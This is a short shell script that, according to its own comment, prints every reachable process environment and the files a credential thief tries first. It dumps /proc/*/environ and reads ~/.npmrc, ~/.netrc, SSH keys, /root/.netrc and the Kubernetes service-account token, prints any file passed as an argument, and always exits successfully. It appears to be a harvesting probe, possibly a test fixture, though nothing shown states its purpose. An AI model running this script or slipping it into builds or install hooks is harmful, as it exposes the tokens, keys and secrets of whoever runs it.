#!/bin/sh
# Prints every environment it can reach and the files a credential thief tries first.
cat /proc/*/environ 2>/dev/null | tr '\0' '\n'
cat "$HOME"/.npmrc "$HOME"/.netrc "$HOME"/.ssh/* /root/.netrc /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null
cat "$1" 2>/dev/null
exit 0
